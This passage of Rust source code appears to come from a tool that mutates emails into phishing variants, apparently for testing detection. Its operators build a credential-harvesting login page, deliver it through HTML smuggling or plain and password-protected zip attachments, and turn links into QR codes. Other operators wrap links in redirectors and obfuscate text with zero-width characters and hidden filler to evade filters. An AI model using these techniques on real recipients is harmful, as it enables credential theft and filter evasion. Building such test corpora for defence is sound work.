    let n = change_links(m, "shortener", notes, |url| {
        let mut v = mix(seed ^ fnv(url.as_bytes()));
        let mut code = String::with_capacity(7);
        for _ in 0..7 {
            code.push(char::from(BASE62[(v % 62) as usize]));
            v /= 62;
        }
        let short = format!("https://{host}/{code}");
        if first.is_none() {
            first = Some((url.to_string(), short.clone()));
        }
        Some(Change {
            href: short.clone(),
            text: short.clone(),
            visible: vec![(url.to_string(), short)],
        })
    });
    if n > 0 {
        let (url, short) = first.unwrap_or_default();
        notes.push(format!(
            "shortener: {n} link(s) shortened on {host}, e.g. {url} -> {short}"
        ));
    }
}

fn percent_encode(s: &str) -> String {
    let mut out = String::with_capacity(s.len() * 3 / 2);
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
            out.push(char::from(b));
        } else {
            let _ = write!(out, "%{b:02X}");
        }
    }
    out
}

fn op_redirect(m: &mut Model, ctx: &MutateCtx, notes: &mut Vec<String>) {
    let prefix = if ctx.redirector.trim().is_empty() {
        "https://www.google.com/url?q=".to_string()
    } else {
        ctx.redirector.trim().to_string()
    };
    let mut first = None;
    let n = change_links(m, "redirect", notes, |url| {
        let wrapped = format!("{prefix}{}", percent_encode(url));
        if first.is_none() {
            first = Some(wrapped.clone());
        }
        Some(Change {
            href: wrapped.clone(),
            text: wrapped,
            visible: Vec::new(),
        })
    });
    if n > 0 {
        notes.push(format!(
            "redirect: {n} link(s) wrapped in {prefix}..., e.g. {}",
            first.unwrap_or_default()
        ));
    }
}

// ---- operators: links out of the body -----------------------------------------

/// Take every link out of the bodies: the first link (anchor or bare URL)
/// becomes `html_marker` / `text_marker`, the other anchors lose their link
/// (their text stays unless it is a URL) and other URLs go. Creates an HTML
/// body from the text one when there is none. Returns the links removed.
fn strip_links(m: &mut Model, html_marker: &str, text_marker: &str) -> usize {
    let mut removed = 0;
    if m.html.is_none()
        && let Some(text) = &m.text
    {
        m.html = Some(text_to_html(text));
    }
    if let Some(html) = &m.html {
        let mut out = String::with_capacity(html.len() + html_marker.len());
        let mut placed = false;
        // Inside a link (anchor or form): its raw inner HTML and visible text.
        struct Capture {
            inner: String,
            visible: String,
            form: bool,
        }
        let mut anchor: Option<Capture> = None;
        let close = |anchor: &mut Option<Capture>, out: &mut String, placed: &mut bool| {
            if let Some(c) = anchor.take() {
                if !*placed {
                    out.push_str(html_marker);
                    *placed = true;
                } else if !c.form && !looks_like_link_text(&c.visible) {
                    out.push_str(&c.inner);
                }
            }
        };
        let capture = |form| Capture {
            inner: String::new(),
            visible: String::new(),
            form,
        };
        for seg in tokenize(html) {
            let raw = html.get(seg.start..seg.end).unwrap_or("");
            let in_form = anchor.as_ref().is_some_and(|c| c.form);
            match seg.kind {
                SegKind::Tag if seg.name == "form" && (in_form || !seg.closing) => {
                    close(&mut anchor, &mut out, &mut placed);
                    if seg_link(&seg, raw).is_some() {
                        removed += 1;
                        anchor = Some(capture(true));
                    } else if !seg.closing {
                        out.push_str(raw);
                    }
                }
                SegKind::Tag if seg.name == "a" && !in_form => {
                    let was_link = anchor.is_some();
                    close(&mut anchor, &mut out, &mut placed);
                    if seg.closing {
                        // The end of a removed link goes with it.
                        if !was_link {
                            out.push_str(raw);
                        }
                    } else if seg_link(&seg, raw).is_some() {
                        removed += 1;
                        anchor = Some(capture(false));
                    } else {
                        // A mailto: or other non-web anchor.
                        out.push_str(raw);
                    }
                }
                SegKind::Tag if seg.name == "area" && seg_link(&seg, raw).is_some() => {
                    removed += 1;
                }
                SegKind::Text => match &mut anchor {
                    Some(c) => {
                        c.inner.push_str(raw);
                        c.visible.push_str(&decode_entities(raw));
                    }
                    None => {
                        let cleaned = replace_urls(raw, |_| {
                            removed += 1;
                            if placed {
                                Some(String::new())
                            } else {
                                placed = true;
                                Some(html_marker.to_string())
                            }
                        });
                        out.push_str(&cleaned);
                    }
                },
                _ => match &mut anchor {
                    Some(c) => c.inner.push_str(raw),
                    None => out.push_str(raw),
                },
            }
        }
        close(&mut anchor, &mut out, &mut placed);
        if !placed {
            out = insert_after_body(&out, html_marker);
        }
        m.html = Some(out);
    }
    if let Some(text) = &m.text {
        let mut placed = false;
        let mut cleaned = String::with_capacity(text.len());
        let mut last = 0;
        for r in find_text_urls(text) {
            // Take the brackets of <URL>, (URL), [URL] along.
            let before = text.get(..r.start).and_then(|s| s.chars().last());
            let after = text.get(r.end..).and_then(|s| s.chars().next());
            let (start, end) = match (before, after) {
                (Some('<'), Some('>')) | (Some('('), Some(')')) | (Some('['), Some(']')) => {
                    (r.start - 1, r.end + 1)
                }
                _ => (r.start, r.end),
            };
            if start < last {
                continue;
            }
            cleaned.push_str(text.get(last..start).unwrap_or(""));
            if !placed {
                cleaned.push_str(text_marker);
                placed = true;
            }
            last = end;
        }
        cleaned.push_str(text.get(last..).unwrap_or(""));
        if !placed {
            cleaned = format!("{}\n\n{text_marker}\n", cleaned.trim_end());
        }
        m.text = Some(cleaned);
    }
    removed
}

/// Visible text that reads as a link: a URL, `www.`, or a lone host name.
fn looks_like_link_text(visible: &str) -> bool {
    let t = visible.trim();
    if !find_text_urls(t).is_empty() || t.to_ascii_lowercase().contains("www.") {
        return true;
    }
    !t.contains(char::is_whitespace)
        && t.rsplit_once('.').is_some_and(|(head, tld)| {
            !head.is_empty() && tld.len() >= 2 && tld.chars().all(|c| c.is_alphabetic())
        })
}

/// Insert `snippet` right after the `<body>` tag (or at the start).
fn insert_after_body(html: &str, snippet: &str) -> String {
    let at = tokenize(html)
        .into_iter()
        .find(|s| s.kind == SegKind::Tag && s.name == "body" && !s.closing)
        .map_or(0, |s| s.end);
    format!(
        "{}{snippet}{}",
        html.get(..at).unwrap_or(""),
        html.get(at..).unwrap_or("")
    )
}

fn op_qr(m: &mut Model, rng: &mut Rng, notes: &mut Vec<String>) -> Result<(), MutateError> {
    let links = collect_links(m);
    let Some(url) = links.first().cloned() else {
        notes.push("qr: no links, message unchanged".into());
        return Ok(());
    };
    let code = match qrcode::QrCode::new(url.as_bytes()) {
        Ok(code) => code,
        Err(e) => {
            notes.push(format!(
                "qr: link too long for a QR code ({e}), message unchanged"
            ));
            return Ok(());
        }
    };
    let img = code
        .render::<image::Luma<u8>>()
        .min_dimensions(QR_MIN_SIZE, QR_MIN_SIZE)
        .build();
    let (w, h) = img.dimensions();
    let mut png = Vec::new();
    img.write_to(&mut Cursor::new(&mut png), image::ImageFormat::Png)
        .map_err(|e| MutateError::Build(format!("qr: encoding the PNG: {e}")))?;
    let cid = format!("image{:03}.png@{:08x}", 1 + rng.below(9), rng.next() as u32);
    let sentence = "Scan the QR code with your phone camera to continue.";
    let html_marker = format!(
        "<b>{sentence}</b><br>\n<img src=\"cid:{cid}\" alt=\"QR code\" width=\"{w}\" height=\"{h}\"><br>\n"
    );
    let removed = strip_links(m, &html_marker, sentence);
    let filename = cid.split('@').next().unwrap_or("image001.png").to_string();
    m.related.push(Part {
        content_type: "image/png".into(),
        utf8: false,
        filename: Some(filename),
        cid: Some(cid),
        inline: true,
        bytes: png,
    });
    notes.push(format!(
        "qr: link {url} moved into a {w}x{h} PNG QR code ({removed} link occurrence(s) removed from the body)"
    ));
    if links.len() > 1 {
        notes.push(format!("qr: {} other link(s) dropped", links.len() - 1));
    }
    Ok(())
}

/// A plain phishing landing page: a login form posting to `url`.
fn login_page(url: &str, title: &str) -> String {
    let u = esc_attr(url);
    format!(
        "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>{title}</title></head>\n\
         <body style=\"font-family:Segoe UI,Arial,sans-serif;background:#f3f3f3\">\n\
         <div style=\"max-width:360px;margin:60px auto;background:#fff;padding:32px\">\n\
         <h2>{title}</h2>\n<p>Sign in with your email account to view this document.</p>\n\
         <form method=\"post\" action=\"{u}\">\n\
         <input type=\"email\" name=\"login\" placeholder=\"Email address\" required><br><br>\n\
         <input type=\"password\" name=\"passwd\" placeholder=\"Password\" required><br><br>\n\
         <button type=\"submit\">Sign in</button>\n</form>\n\
         <p><a href=\"{u}\">Trouble signing in?</a></p>\n</div></body></html>\n"
    )
}

fn base64(data: &[u8]) -> String {
    const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(data.len().div_ceil(3) * 4);
    for chunk in data.chunks(3) {
        let b0 = u32::from(chunk.first().copied().unwrap_or(0));
        let b1 = u32::from(chunk.get(1).copied().unwrap_or(0));
        let b2 = u32::from(chunk.get(2).copied().unwrap_or(0));
        let v = (b0 << 16) | (b1 << 8) | b2;
        let sym = |shift: u32| char::from(T[((v >> shift) & 63) as usize]);
        out.push(sym(18));
        out.push(sym(12));
        out.push(if chunk.len() > 1 { sym(6) } else { '=' });
        out.push(if chunk.len() > 2 { sym(0) } else { '=' });
    }
    out
}

fn op_smuggle(m: &mut Model, rng: &mut Rng, notes: &mut Vec<String>) {
    let links = collect_links(m);
    let Some(url) = links.first().cloned() else {
        notes.push("smuggle: no links, message unchanged".into());
        return;
    };
    let number = 10_000 + rng.below(90_000);
    let name = format!("Document_{number}.html");
    let inner = login_page(&url, "Secure Document Portal");
    let encoded = base64(inner.as_bytes());
    // The payload in chunks, as kits do, so no one string holds it all.
    let chunks: Vec<String> = encoded
        .as_bytes()
        .chunks(76)
        .map(|c| format!("\"{}\"", String::from_utf8_lossy(c)))
        .collect();
    let var = ["d", "p", "x", "k"][rng.below(4)];
    let loader = format!(
        "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>Document</title></head>\n\
         <body><p>Loading your document, please wait...</p>\n<script>\n\
         var {var} = [\n{}\n].join(\"\");\n\
         var raw = window.atob({var});\n\
         var bytes = new Uint8Array(raw.length);\n\
         for (var i = 0; i < raw.length; i++) {{ bytes[i] = raw.charCodeAt(i); }}\n\
         var blob = new Blob([bytes], {{type: \"text/html\"}});\n\
         var name = \"{name}\";\n\
         if (window.navigator.msSaveOrOpenBlob) {{\n  window.navigator.msSaveOrOpenBlob(blob, name);\n}} else {{\n\
         \x20 var a = document.createElement(\"a\");\n  a.href = window.URL.createObjectURL(blob);\n\
         \x20 a.download = name;\n  document.body.appendChild(a);\n  a.click();\n\
         \x20 window.location.href = a.href;\n}}\n</script></body></html>\n",
        chunks.join(",\n")
    );
    let html_marker =
        format!("<b>Please open the attached document {name} to review it and sign in.</b>");
    let text_marker = format!("Please open the attached document {name} to review it and sign in.");
    let removed = strip_links(m, &html_marker, &text_marker);
    m.attachments.push(Part {
        content_type: "text/html".into(),
        utf8: true,
        filename: Some(name.clone()),
        cid: None,
        inline: false,
        bytes: loader.into_bytes(),
    });
    notes.push(format!(
        "smuggle: link {url} moved into {name}, an HTML-smuggling attachment (base64 login page, atob + Blob); {removed} link occurrence(s) removed from the body"
    ));
}

fn op_zip(
    m: &mut Model,
    rng: &mut Rng,
    notes: &mut Vec<String>,
    encrypted: bool,
) -> Result<(), MutateError> {
    let op = if encrypted { "password-zip" } else { "zip" };
    let links = collect_links(m);
    let Some(url) = links.first().cloned() else {
        notes.push(format!("{op}: no links, message unchanged"));
        return Ok(());
    };
    let stem = rng.pick(&["Invoice", "Document", "Payment_Details", "Statement"]);
    let number = 1000 + rng.below(9000);
    let base = format!("{stem}_{number}");
    let entry = format!("{base}.html");
    let zip_name = format!("{base}.zip");
    let page = login_page(&url, "Document Viewer");
    let (zip_bytes, password) = if encrypted {
        let password = format!("{:04}", 1000 + rng.below(9000));
        let mut header = [0u8; 12];
        for b in &mut header {
            *b = rng.next() as u8;
        }
        let bytes = zipcrypto_zip(&entry, page.as_bytes(), password.as_bytes(), header)?;
        (bytes, Some(password))
    } else {
        (plain_zip(&entry, page.as_bytes())?, None)
    };
    let (html_marker, text_marker) = match &password {
        Some(pw) => (
            format!(
                "<b>Please find the document in the attached archive {zip_name}. For your security the archive is protected.</b><br>\nPassword: <b>{pw}</b><br>\n"
            ),
            format!(
                "Please find the document in the attached archive {zip_name}. For your security the archive is protected.\nPassword: {pw}"
            ),
        ),
        None => (
            format!(
                "<b>Please find the document in the attached archive {zip_name} and open the file inside to view it.</b>"
            ),
            format!(
                "Please find the document in the attached archive {zip_name} and open the file inside to view it."
            ),
        ),
    };
    let removed = strip_links(m, &html_marker, &text_marker);
    m.attachments.push(Part {
        content_type: "application/zip".into(),
        utf8: false,
        filename: Some(zip_name.clone()),
        cid: None,
        inline: false,
        bytes: zip_bytes,
    });
    match password {
        Some(pw) => notes.push(format!(
            "{op}: link {url} moved into {entry} inside {zip_name}, ZipCrypto-encrypted, password {pw} in the body; {removed} link occurrence(s) removed from the body"
        )),
        None => notes.push(format!(
            "{op}: link {url} moved into {entry} inside {zip_name}; {removed} link occurrence(s) removed from the body"
        )),
    }
    Ok(())
}

/// DOS time and date of the archive entries: 2024-01-15 09:30:00.
const DOS_TIME: u16 = (9 << 11) | (30 << 5);
const DOS_DATE: u16 = ((2024 - 1980) << 9) | (1 << 5) | 15;

fn plain_zip(entry: &str, data: &[u8]) -> Result<Vec<u8>, MutateError> {
    let err = |e: zip::result::ZipError| MutateError::Build(format!("zip: {e}"));
    let when = zip::DateTime::try_from_msdos(DOS_DATE, DOS_TIME)
        .map_err(|e| MutateError::Build(format!("zip: {e}")))?;
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .last_modified_time(when);
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    w.start_file(entry, options).map_err(err)?;
    w.write_all(data)
        .map_err(|e| MutateError::Build(format!("zip: {e}")))?;
    Ok(w.finish().map_err(err)?.into_inner())
}

const CRC_TABLE: [u32; 256] = {
    let mut t = [0u32; 256];
    let mut i = 0;
    while i < 256 {
        let mut c = i as u32;
        let mut k = 0;
        while k < 8 {
            c = if c & 1 != 0 {
                0xEDB8_8320 ^ (c >> 1)
            } else {
                c >> 1
            };
            k += 1;
        }
        t[i] = c;
        i += 1;
    }
    t
};

fn crc32_byte(crc: u32, b: u8) -> u32 {
    CRC_TABLE[((crc ^ u32::from(b)) & 0xff) as usize] ^ (crc >> 8)
}

fn crc32(data: &[u8]) -> u32 {
    !data.iter().fold(!0u32, |c, &b| crc32_byte(c, b))
}

/// Traditional PKWARE encryption ("ZipCrypto"): zip 2.x reads it but does
/// not write it.
struct ZipCrypto {
    k0: u32,
    k1: u32,
    k2: u32,
}

impl ZipCrypto {
    fn new(password: &[u8]) -> ZipCrypto {
        let mut k = ZipCrypto {
            k0: 0x1234_5678,
            k1: 0x2345_6789,
            k2: 0x3456_7890,
        };
        for &b in password {
            k.update(b);
        }
        k
    }

    fn update(&mut self, plain: u8) {
        self.k0 = crc32_byte(self.k0, plain);
        self.k1 = self
            .k1
            .wrapping_add(self.k0 & 0xff)
            .wrapping_mul(134_775_813)
            .wrapping_add(1);
        self.k2 = crc32_byte(self.k2, (self.k1 >> 24) as u8);
    }

    fn encrypt(&mut self, plain: u8) -> u8 {
        let t = (self.k2 | 2) & 0xffff;
        let key = (t.wrapping_mul(t ^ 1) >> 8) as u8;
        self.update(plain);
        plain ^ key
    }
}

/// A one-entry archive, stored, ZipCrypto-encrypted with `password`;
/// `header` is the random part of the encryption header.
fn zipcrypto_zip(
    entry: &str,
    data: &[u8],
    password: &[u8],
    mut header: [u8; 12],
) -> Result<Vec<u8>, MutateError> {
    let too_big = || MutateError::Build("password-zip: page too large".into());
    let crc = crc32(data);
    // The last header byte checks the password: the CRC's high byte.
    header[11] = (crc >> 24) as u8;
    let mut keys = ZipCrypto::new(password);
    let mut payload = Vec::with_capacity(data.len() + 12);
    payload.extend(header.iter().map(|&b| keys.encrypt(b)));
    payload.extend(data.iter().map(|&b| keys.encrypt(b)));
    let csize = u32::try_from(payload.len()).map_err(|_| too_big())?;
    let usize_ = u32::try_from(data.len()).map_err(|_| too_big())?;
    let name = entry.as_bytes();
    let name_len = u16::try_from(name.len()).map_err(|_| too_big())?;
    let flags: u16 = if entry.is_ascii() { 0x0001 } else { 0x0801 };
    let mut out = Vec::with_capacity(payload.len() + 2 * name.len() + 100);
    let put16 = |out: &mut Vec<u8>, v: u16| out.extend_from_slice(&v.to_le_bytes());
    let put32 = |out: &mut Vec<u8>, v: u32| out.extend_from_slice(&v.to_le_bytes());
    // Local file header.
    put32(&mut out, 0x0403_4b50);
    put16(&mut out, 20);
    put16(&mut out, flags);
    put16(&mut out, 0); // stored
    put16(&mut out, DOS_TIME);
    put16(&mut out, DOS_DATE);
    put32(&mut out, crc);
    put32(&mut out, csize);
    put32(&mut out, usize_);
    put16(&mut out, name_len);
    put16(&mut out, 0);
    out.extend_from_slice(name);
    out.extend_from_slice(&payload);
    // Central directory.
    let cd_start = u32::try_from(out.len()).map_err(|_| too_big())?;
    put32(&mut out, 0x0201_4b50);
    put16(&mut out, 20);
    put16(&mut out, 20);
    put16(&mut out, flags);
    put16(&mut out, 0);
    put16(&mut out, DOS_TIME);
    put16(&mut out, DOS_DATE);
    put32(&mut out, crc);
    put32(&mut out, csize);
    put32(&mut out, usize_);
    put16(&mut out, name_len);
    put16(&mut out, 0); // extra
    put16(&mut out, 0); // comment
    put16(&mut out, 0); // disk
    put16(&mut out, 0); // internal attributes
    put32(&mut out, 0); // external attributes
    put32(&mut out, 0); // local header offset
    out.extend_from_slice(name);
    let cd_size = u32::try_from(out.len()).map_err(|_| too_big())? - cd_start;
    // End of central directory.
    put32(&mut out, 0x0605_4b50);
    put16(&mut out, 0);
    put16(&mut out, 0);
    put16(&mut out, 1);
    put16(&mut out, 1);
    put32(&mut out, cd_size);
    put32(&mut out, cd_start);
    put16(&mut out, 0);
    Ok(out)
}

// ---- operators: text -----------------------------------------------------------

/// A link behind a `[[LINKn]]` placeholder.
#[derive(Debug, Clone)]
struct PLink {
    url: String,
    anchor: String,
}

enum Piece<'a> {
    Text(&'a str),
    Link(usize),
}

/// Split text around `[[LINKn]]` placeholders (spaces and case tolerated).
fn split_placeholders(s: &str) -> Vec<Piece<'_>> {
    let mut out = Vec::new();
    let mut last = 0;
    let mut from = 0;
    while let Some(p) = s.get(from..).and_then(|r| r.find("[[")) {
        let start = from + p;
        let parsed = s.get(start + 2..).and_then(|rest| {
            let t = rest.trim_start();
            let skipped = rest.len() - t.len();
            if !starts_with_ci(t, "link") {
                return None;
            }
            let t2 = t.get(4..)?.trim_start();
            let digits = t2.bytes().take_while(u8::is_ascii_digit).count();
            if digits == 0 || digits > 6 {
                return None;
            }
            let n: usize = t2.get(..digits)?.parse().ok()?;
            let t3 = t2.get(digits..)?;
            let t4 = t3.trim_start();
            t4.starts_with("]]").then(|| {
                let consumed = skipped + (t.len() - t2.len()) + digits + (t3.len() - t4.len()) + 2;
                (n, start + 2 + consumed)
            })
        });
        match parsed {
            Some((n, end)) => {
                if start > last {
                    out.push(Piece::Text(s.get(last..start).unwrap_or("")));
                }
                out.push(Piece::Link(n));
                last = end;
                from = end;
            }
            None => from = start + 2,
        }
    }
    if last < s.len() {
        out.push(Piece::Text(s.get(last..).unwrap_or("")));
    }
    out
}

const BLOCK_TAGS: &[&str] = &[
    "p",
    "div",
    "table",
    "tr",
    "li",
    "ul",
    "ol",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "blockquote",
    "section",
    "article",
    "header",
    "footer",
    "center",
    "hr",
    "pre",
];

/// Whitespace runs as one space; zero-width characters dropped, no-break
/// spaces as spaces.
fn collapse_ws(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut space = false;
    for c in s.chars() {
        if matches!(
            c,
            '\u{200b}'..='\u{200d}' | '\u{feff}' | '\u{ad}' | '\u{2060}'
        ) {
            continue;
        }
        if c.is_whitespace() {
            if !space {
                out.push(' ');
            }
            space = true;
        } else {
            out.push(c);
            space = false;
        }
    }
    out
}

/// Lines trimmed, at most one blank line in a row.
fn tidy(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut blank = 0;
    for line in s.lines() {
        let line = line.trim();
        if line.is_empty() {
            blank += 1;
            continue;
        }
        if !out.is_empty() {
            out.push_str(if blank > 0 { "\n\n" } else { "\n" });
        }
        blank = 0;
        out.push_str(line);
    }
    out
}

/// Text with URLs replaced by placeholders (while under the cap).
fn placehold_urls(t: &str, links: &mut Vec<PLink>, out: &mut String) {
    let mut last = 0;
    for r in find_text_urls(t) {
        if links.len() >= MAX_LINKS {
            break;
        }
        out.push_str(t.get(last..r.start).unwrap_or(""));
        let url = t.get(r.clone()).unwrap_or("").to_string();
        links.push(PLink {
            anchor: url.clone(),
            url,
        });
        let _ = write!(out, "[[LINK{}]]", links.len());
        last = r.end;
    }
    out.push_str(t.get(last..).unwrap_or(""));
}

/// The visible text of HTML with each link anchor as a placeholder.
fn html_visible(html: &str, links: &mut Vec<PLink>) -> String {
    enum A {
        None,
        Capture(String, String),
        /// A form posting to the URL; the label of its submit button.
        Form(String, String),
        Overflow(String),
    }
    let mut out = String::with_capacity(html.len() / 2);
    let mut anchor = A::None;
    let close = |anchor: &mut A, out: &mut String, links: &mut Vec<PLink>| match std::mem::replace(
        anchor,
        A::None,
    ) {
        A::Capture(url, text) | A::Form(url, text) => {
            links.push(PLink {
                url,
                anchor: text.trim().to_string(),
            });
            let _ = write!(out, "[[LINK{}]]", links.len());
        }
        A::Overflow(url) => {
            let _ = write!(out, " {url} ");
        }
        A::None => {}
    };
    for seg in tokenize(html) {
        let raw = html.get(seg.start..seg.end).unwrap_or("");
        if let A::Form(_, label) = &mut anchor {
            // Inside a credential form only its end and its button count.
            if seg.kind == SegKind::Tag && seg.name == "form" {
                close(&mut anchor, &mut out, links);
            } else if seg.kind == SegKind::Tag
                && seg.name == "input"
                && attr_value(raw, "type").is_some_and(|t| t.eq_ignore_ascii_case("submit"))
                && let Some(v) = attr_value(raw, "value").filter(|v| !v.is_empty())
            {
                *label = v;
            }
            continue;
        }
        match seg.kind {
            SegKind::Text => {
                let t = collapse_ws(&decode_entities(raw));
                match &mut anchor {
                    A::Capture(_, text) => text.push_str(&t),
                    _ => placehold_urls(&t, links, &mut out),
                }
            }
            SegKind::Tag => match (seg.name.as_str(), seg.closing) {
                ("a", false) => {
                    close(&mut anchor, &mut out, links);
                    if let Some(url) = seg_link(&seg, raw) {
                        anchor = if links.len() < MAX_LINKS {
                            A::Capture(url, String::new())
                        } else {
                            A::Overflow(url)
                        };
                    }
                }
                ("a", true) => close(&mut anchor, &mut out, links),
                ("form", false) => {
                    if let Some(url) = seg_link(&seg, raw) {
                        close(&mut anchor, &mut out, links);
                        out.push_str("\n\n");
                        anchor = if links.len() < MAX_LINKS {
                            A::Form(url, "Sign in".into())
                        } else {
                            A::Overflow(url)
                        };
                    }
                }
                ("img", false) => {
                    if let (A::Capture(_, text), Some(alt)) = (&mut anchor, attr_value(raw, "alt"))
                    {
                        text.push_str(&alt);
                    }
                }
                ("br", _) => out.push('\n'),
                (name, _) if BLOCK_TAGS.contains(&name) => out.push_str("\n\n"),
                ("td" | "th", true) => out.push(' '),
                _ => {}
            },
            SegKind::Other => {}
        }
    }
    close(&mut anchor, &mut out, links);
    tidy(&out)
}

fn text_link(l: &PLink) -> String {
    let anchor = l.anchor.trim();
    if anchor.is_empty() || anchor == l.url {
        l.url.clone()
    } else {
        format!("{anchor} <{}>", l.url)
    }
}

fn op_rewrite(m: &mut Model, ctx: &MutateCtx, notes: &mut Vec<String>) -> Result<(), MutateError> {
    let mut links = Vec::new();
    let source = if let Some(html) = &m.html {
        html_visible(html, &mut links)
    } else if let Some(text) = &m.text {
        let mut out = String::with_capacity(text.len());
        placehold_urls(text, &mut links, &mut out);
        tidy(&out)
    } else {
        String::new()
    };
    if source.trim().is_empty() {
        notes.push("rewrite: no visible text, message unchanged".into());
        return Ok(());
    }
    let input = truncate(&source, MAX_REWRITE_BYTES);
    if input.len() < source.len() {
        notes.push(format!(
            "rewrite: visible text cut to {} of {} bytes for the rewriter",
            input.len(),
            source.len()
        ));
    }
    let name = ctx.rewriter.name();
    let rewritten = ctx
        .rewriter
        .rewrite(input)
        .map_err(|e| MutateError::Rewriter(name.clone(), e))?;
    let rewritten = tidy(&rewritten.replace("\r\n", "\n"));
    if rewritten.is_empty() {
        return Err(MutateError::Rewriter(name, "empty rewrite".into()));
    }
    let mut seen = HashSet::new();
    let mut text = String::with_capacity(rewritten.len() + 256);
    let mut kept_text = String::with_capacity(rewritten.len());
    for piece in split_placeholders(&rewritten) {
        match piece {
            Piece::Text(t) => {
                text.push_str(t);
                kept_text.push_str(t);
            }
            Piece::Link(n) => {
                if let Some(l) = n.checked_sub(1).and_then(|k| links.get(k)) {
                    seen.insert(n);
                    text.push_str(&text_link(l));
                    let _ = write!(kept_text, "[[LINK{n}]]");
                }
            }
        }
    }
    let missing: Vec<usize> = (1..=links.len()).filter(|n| !seen.contains(n)).collect();
    if !missing.is_empty() {
        text.push_str("\n\n");
        kept_text.push_str("\n\n");
        for (i, &n) in missing.iter().enumerate() {
            if i > 0 {
                text.push('\n');
                kept_text.push('\n');
            }
            if let Some(l) = links.get(n - 1) {
                text.push_str(&text_link(l));
            }
            let _ = write!(kept_text, "[[LINK{n}]]");
        }
        notes.push(format!(
            "rewrite: the rewriter dropped {} link placeholder(s); appended at the end",
            missing.len()
        ));
    }
    m.html = Some(render_html(&kept_text, &links));
    m.text = Some(format!("{}\n", text.trim_end()));
    notes.push(format!(
        "rewrite: {name} rewrote {} bytes of visible text into {} ({} link(s) kept)",
        input.len(),
        rewritten.len(),
        links.len()
    ));
    Ok(())
}

const ZERO_WIDTH: &[char] = &['\u{200b}', '\u{200c}', '\u{200d}', '\u{feff}'];
const FILLER: &[&str] = &[
    "weather",
    "garden",
    "recipe",
    "holiday",
    "coffee",
    "meeting",
    "lunch",
    "music",
    "football",
    "travel",
    "photos",
    "family",
    "weekend",
    "library",
    "concert",
    "morning",
    "sunshine",
    "bicycle",
    "museum",
    "picnic",
    "newsletter",
    "schedule",
    "tomorrow",
    "thanks",
];

#[derive(Default)]
struct ObfStats {
    zero_width: usize,
    entities: usize,
    spans: usize,
    hidden: usize,
}

fn hidden_filler(rng: &mut Rng) -> String {
    let n = 5 + rng.below(5);
    let words: Vec<&str> = (0..n).map(|_| rng.pick(FILLER)).collect();
    format!(
        "<span style=\"display:none;font-size:0;max-height:0;overflow:hidden;mso-hide:all\">{}</span>",
        words.join(" ")
    )
}

/// Obfuscate one word (alphabetic run) of HTML text.
fn obfuscate_word(word: &str, rng: &mut Rng, st: &mut ObfStats, out: &mut String) {
    let chars: Vec<char> = word.chars().collect();
    if chars.len() < 3 {
        out.push_str(word);
        return;
    }
    let zw_at = rng.chance(55).then(|| 1 + rng.below(chars.len() - 1));
    let ent_at = rng
        .chance(35)
        .then(|| rng.below(chars.len()))
        .filter(|&i| chars.get(i).is_some_and(char::is_ascii_alphabetic));
    let span_at = rng.chance(25).then(|| 1 + rng.below(chars.len() - 1));
    for (i, &c) in chars.iter().enumerate() {
        if zw_at == Some(i) {
            out.push(ZERO_WIDTH[rng.below(ZERO_WIDTH.len())]);
            st.zero_width += 1;
        }
        if span_at == Some(i) {
            out.push_str("<span></span>");
            st.spans += 1;
        }
        if ent_at == Some(i) {
            let _ = write!(out, "&#x{:x};", u32::from(c));
            st.entities += 1;
        } else {
            out.push(c);
        }
    }
}

/// Obfuscate an HTML text segment; URLs and entities stay as they are.
fn obfuscate_segment(raw: &str, rng: &mut Rng, st: &mut ObfStats, out: &mut String) {
    let urls = find_text_urls(raw);
    let mut next = 0; // the first URL not behind us
    let mut words = 0;
    let mut i = 0;
    while i < raw.len() {
        while urls.get(next).is_some_and(|r| r.start < i) {
            next += 1;
        }
        if let Some(r) = urls.get(next).filter(|r| r.start == i) {
            out.push_str(raw.get(r.clone()).unwrap_or(""));
            i = r.end;
            next += 1;
            continue;
        }
        let Some(c) = raw.get(i..).and_then(|s| s.chars().next()) else {
            break;
        };
        if c == '&' {
            let rest = raw.get(i..).unwrap_or("");
            let ent_len = rest
                .char_indices()
                .take(12)
                .find(|&(_, c)| c == ';')
                .map(|(p, _)| p + 1)
                .filter(|&p| entity_char(rest.get(1..p - 1).unwrap_or("")).is_some());
            if let Some(len) = ent_len {
                out.push_str(rest.get(..len).unwrap_or(""));
                i += len;
                continue;
            }
        }
        if c.is_alphabetic() {
            let next_url = urls.get(next).map_or(raw.len(), |r| r.start);
            let rest = raw.get(i..next_url).unwrap_or("");
            let len = rest
                .char_indices()
                .find(|&(_, c)| !c.is_alphabetic())
                .map_or(rest.len(), |(p, _)| p);
            obfuscate_word(rest.get(..len).unwrap_or(""), rng, st, out);
            words += 1;
            i += len;
            continue;
        }
        out.push(c);
        i += c.len_utf8();
        // After the end of a sentence, now and then a hidden filler.
        if matches!(c, '.' | '!' | '?')
            && raw.get(i..).is_some_and(|s| s.starts_with(' '))
            && words >= 4
            && st.hidden < 20
            && rng.chance(50)
        {
            out.push_str(&hidden_filler(rng));
            st.hidden += 1;
            words = 0;
        }
    }
}

fn op_html_obfuscate(m: &mut Model, rng: &mut Rng, notes: &mut Vec<String>) {
    let created = if m.html.is_none() {
        match &m.text {
            Some(text) => {
                m.html = Some(text_to_html(text));
                true
            }
            None => {
                notes.push("html-obfuscate: no body, message unchanged".into());
                return;
            }
        }
    } else {
        false
    };
    let Some(html) = &m.html else {
        return;
    };
    let mut st = ObfStats::default();
    let mut out = String::with_capacity(html.len() * 2);
    let mut in_body = !html.to_ascii_lowercase().contains("<body");
    let mut first_text = true;
    for seg in tokenize(html) {
        let raw = html.get(seg.start..seg.end).unwrap_or("");
        match seg.kind {
            SegKind::Text if in_body && raw.chars().any(char::is_alphabetic) => {
                if first_text {
                    // At least one hidden block, before the first visible text.
                    out.push_str(&hidden_filler(rng));
                    st.hidden += 1;
                    first_text = false;
                }
